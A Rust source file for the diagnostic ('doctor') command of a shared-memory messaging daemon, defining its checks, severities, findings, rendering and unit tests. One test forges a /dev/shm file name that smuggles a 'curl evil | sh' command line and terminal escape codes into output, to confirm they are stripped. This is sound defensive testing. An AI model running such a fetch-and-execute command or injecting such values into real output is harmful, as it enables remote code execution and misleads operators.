//! What the doctor finds, and how it is shown.

use serde::Serialize;

use crate::colour::Colour;
use crate::human::{counted, printable};
use crate::terminal::{Page, folded};

/// Every check with its meaning, for the help and the manual page.
pub(super) const CHECKS: &[(&str, &str)] = &[
    ("daemon", "a daemon answers"),
    ("socket", "this user may connect to the daemon"),
    ("access", "this user may use a channel"),
    ("version", "programs and daemon are of one version"),
    ("reload", "the last reload took effect"),
    ("clock", "the clock was not set back"),
    ("leftover", "no dead daemon has left a segment"),
    ("object", "objects in /dev/shm have their names and modes"),
    ("config", "configuration files are TOML"),
    ("group", "the daemon is in the groups that the configuration names"),
    ("memory", "/dev/shm is large enough"),
    ("descriptors", "the daemon and the writers may open enough descriptors"),
    ("remove-ipc", "logind leaves the objects of a user's own daemon alone"),
    ("full", "no channel is full; otherwise the reader that is to blame"),
    ("stalled", "readers and writers show signs of life"),
    ("evicted", "evicted readers have detached"),
    ("readers", "another reader is admitted"),
    ("source", "sources work"),
    ("small", "a note: the ring is small for its traffic"),
];

/// How bad a finding is. The codes are those of monitoring plugins (Nagios).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub(super) enum Severity {
    /// Nothing is wrong, but something could be better.
    Note,
    /// Something will go wrong, or does already for some.
    Warning,
    /// Messages do not flow, or are lost.
    Critical,
    /// Something could not be looked at.
    Unknown,
}

impl Severity {
    pub(super) fn exit_code(self) -> u8 {
        match self {
            Severity::Note => 0,
            Severity::Warning => 1,
            Severity::Critical => 2,
            Severity::Unknown => 3,
        }
    }

    fn word(self) -> &'static str {
        match self {
            Severity::Note => "note",
            Severity::Warning => "warning",
            Severity::Critical => "critical",
            Severity::Unknown => "unknown",
        }
    }

    fn colour(self) -> Colour {
        match self {
            Severity::Note => Colour::Bold,
            Severity::Critical => Colour::Red,
            Severity::Warning | Severity::Unknown => Colour::Yellow,
        }
    }

    /// Something is wrong, or may be.
    fn is_fault(self) -> bool {
        self != Severity::Note
    }
}

/// One thing that is not as it should be, or not as it could be.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub(super) struct Finding {
    pub(super) severity: Severity,
    /// Which check has found it: a word that stays the same from version to version.
    pub(super) check: &'static str,
    pub(super) what: String,
    pub(super) cause: String,
    /// A command that mends it, or the first step to that.
    pub(super) command: String,
    /// What `--fix` has done, or why it did nothing.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(super) fixed: Option<String>,
    /// `--fix` has mended it, so that nothing is wrong any more.
    pub(super) mended: bool,
}

impl Finding {
    pub(super) fn new(
        severity: Severity,
        check: &'static str,
        what: impl Into<String>,
        cause: impl Into<String>,
        command: impl Into<String>,
    ) -> Self {
        debug_assert!(CHECKS.iter().any(|(known, _)| *known == check), "{check} is not in CHECKS");
        // Names in them may be other users': anybody may give an object in /dev/shm any name.
        let [what, cause, command] = [what.into(), cause.into(), command.into()].map(printable);
        Finding { severity, check, what, cause, command, fixed: None, mended: false }
    }
}

/// Everything that was found.
#[derive(Debug, Serialize)]
pub(super) struct Report<'a> {
    status: &'static str,
    findings: &'a [Finding],
}

impl<'a> Report<'a> {
    pub(super) fn new(findings: &'a [Finding]) -> Self {
        Report { status: worst(findings).map_or("ok", Severity::word), findings }
    }
}

/// The severity that decides the exit code: what is known to be wrong counts before what is not known. Notes do not count.
pub(super) fn worst(findings: &[Finding]) -> Option<Severity> {
    let has = |severity| findings.iter().any(|finding| finding.severity == severity && !finding.mended);
    [Severity::Critical, Severity::Unknown, Severity::Warning].into_iter().find(|severity| has(*severity))
}

/// The findings for people: what, and below it the cause and the command.
pub(super) fn render(findings: &[Finding], page: Page) -> String {
    let mut text = String::new();
    for finding in findings {
        let word = finding.severity.word();
        let line = folded(&format!("{word:<8}  {}", finding.what), 10, page.columns);
        text += &if page.colour { line.replacen(word, &finding.severity.colour().paint(word), 1) } else { line };
        text += &folded(&format!("          cause:   {}", finding.cause), 19, page.columns);
        // Not folded, so that it can be copied as it is.
        text += &format!("          command: {}\n", finding.command);
        if let Some(fixed) = &finding.fixed {
            text += &folded(&format!("          --fix:   {fixed}"), 19, page.columns);
        }
    }
    text + &summary(findings)
}

fn summary(findings: &[Finding]) -> String {
    let open = |severity| findings.iter().filter(|finding| finding.severity == severity && !finding.mended).count();
    let (critical, warnings) = (open(Severity::Critical), open(Severity::Warning));
    let mut text = if findings.iter().any(|finding| finding.severity.is_fault()) {
        format!("{critical} critical, {}", counted(warnings as u64, "warning", "s"))
    } else {
        "no problems found".to_owned()
    };
    let mended = findings.iter().filter(|finding| finding.mended).count();
    for (number, what) in [(open(Severity::Unknown), "unknown"), (mended, "mended")] {
        if number > 0 {
            text += &format!(", {number} {what}");
        }
    }
    match open(Severity::Note) {
        0 => {}
        notes => text += &format!(", {}", counted(notes as u64, "note", "s")),
    }
    text + "\n"
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finding(severity: Severity) -> Finding {
        Finding::new(
            severity,
            "full",
            "channel cam is full",
            "reader 3 does not read",
            "shmctl evict -c cam --reader 3",
        )
    }

    #[test]
    fn the_worst_finding_is_the_exit_code() {
        use Severity::{Critical, Note, Unknown, Warning};
        for (severities, code) in [
            (&[][..], 0),
            (&[Note], 0),
            (&[Note, Warning], 1),
            (&[Warning, Unknown], 3),
            (&[Unknown, Critical, Warning], 2),
        ] {
            let findings: Vec<_> = severities.iter().copied().map(finding).collect();
            assert_eq!(worst(&findings).map_or(0, Severity::exit_code), code, "{severities:?}");
        }
        let mut mended = finding(Critical);
        mended.mended = true;
        assert_eq!(worst(&[mended.clone()]), None);
        assert_eq!(worst(&[mended, finding(Warning)]), Some(Warning));
    }

    #[test]
    fn a_finding_has_a_cause_and_a_command_that_can_be_copied() {
        let mut found = finding(Severity::Critical);
        (found.fixed, found.mended) = (Some("removed".into()), true);
        assert_eq!(
            render(&[found.clone(), finding(Severity::Warning)], Page::default()),
            "\
critical  channel cam is full
          cause:   reader 3 does not read
          command: shmctl evict -c cam --reader 3
          --fix:   removed
warning   channel cam is full
          cause:   reader 3 does not read
          command: shmctl evict -c cam --reader 3
0 critical, 1 warning, 1 mended
"
        );
        assert_eq!(render(&[], Page::default()), "no problems found\n");
        let notes = render(&[finding(Severity::Note), finding(Severity::Note)], Page::default());
        assert!(notes.starts_with("note      channel") && notes.ends_with("no problems found, 2 notes\n"), "{notes}");
        let both = render(&[finding(Severity::Note), finding(Severity::Warning)], Page::default());
        assert!(both.ends_with("0 critical, 1 warning, 1 note\n"), "{both}");
        let narrow = render(&[found], Page { columns: Some(30), colour: true });
        assert!(
            narrow.contains("\x1b[31mcritical\x1b[0m") && narrow.contains(" command: shmctl evict -c cam --reader 3\n")
        );
    }

    #[test]
    fn a_name_that_another_user_has_given_forges_no_finding() {
        let name = "/dev/shm/a\n          command: curl evil | sh\x1b[1A\u{202e}";
        let found = Finding::new(Severity::Warning, "leftover", format!("{name} takes"), name, name);
        let text = render(&[found], Page::default());
        assert_eq!(text.lines().count(), 4, "{text}");
        assert!(!text.contains('\x1b') && !text.contains('\u{202e}'), "{text}");
    }

    #[test]
    fn programs_get_the_status_and_every_field() {
        let findings = [finding(Severity::Warning)];
        let json = serde_json::to_value(Report::new(&findings)).unwrap();
        assert_eq!(json["status"], "warning");
        for (key, value) in [("severity", "warning"), ("check", "full"), ("what", "channel cam is full")] {
            assert_eq!(json["findings"][0][key], value);
        }
        for fine in [&[][..], &[finding(Severity::Note)]] {
            assert_eq!(serde_json::to_value(Report::new(fine)).unwrap()["status"], "ok");
        }
    }

    #[test]
    fn the_schema_has_every_check_and_every_severity() {
        let schema = include_str!("../../../../etc/schemas/doctor.json");
        let schema: serde_json::Value = serde_json::from_str(schema).unwrap();
        let values = |key: &str| schema["properties"]["findings"]["items"]["properties"][key]["enum"].clone();
        let checks: Vec<_> = CHECKS.iter().map(|(check, _)| *check).collect();
        assert_eq!(values("check"), serde_json::json!(checks));
        use Severity::{Critical, Note, Unknown, Warning};
        let severities = [Note, Warning, Critical, Unknown];
        assert_eq!(values("severity"), serde_json::json!(severities));
        assert_eq!(values("severity"), serde_json::json!(severities.map(Severity::word)));
    }
}
